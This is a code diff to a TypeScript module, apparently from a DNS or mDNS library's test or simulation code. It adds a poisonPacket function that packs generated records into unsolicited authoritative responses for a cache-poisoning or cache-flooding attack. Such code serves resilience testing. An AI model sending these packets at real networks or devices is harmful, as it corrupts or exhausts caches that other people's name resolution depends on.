@@ -8,7 +8,7 @@
  * @module
  */
 
-import type { ResourceRecord } from "../../codec/mod.ts";
+import { encodeMessage, MessageFlags, type ResourceRecord } from "../../codec/mod.ts";
 
 /** What {@linkcode poisonRecord} builds. */
 export interface PoisonOptions {
@@ -49,4 +49,26 @@ export function poisonRecord(i: number, options: PoisonOptions): ResourceRecord 
       ttl: options.ttl,
       data: [new TextEncoder().encode(`k=${i}`)],
     };
+}
+
+/** Records the attack sends in one packet. */
+export const POISON_RECORDS_PER_PACKET = 40;
+
+/**
+ * The attack's packet that begins with record `first`: the next
+ * {@linkcode POISON_RECORDS_PER_PACKET} records (fewer at the end), encoded
+ * as an unsolicited response.
+ */
+export function poisonPacket(first: number, options: PoisonOptions): Uint8Array {
+  const answers: ResourceRecord[] = [];
+  const end = Math.min(options.records, first + POISON_RECORDS_PER_PACKET);
+  for (let i = first; i < end; i++) answers.push(poisonRecord(i, options));
+  return encodeMessage({
+    id: 0,
+    flags: MessageFlags.RESPONSE | MessageFlags.AUTHORITATIVE,
+    questions: [],
+    answers,
+    authorities: [],
+    additionals: [],
+  });
 }
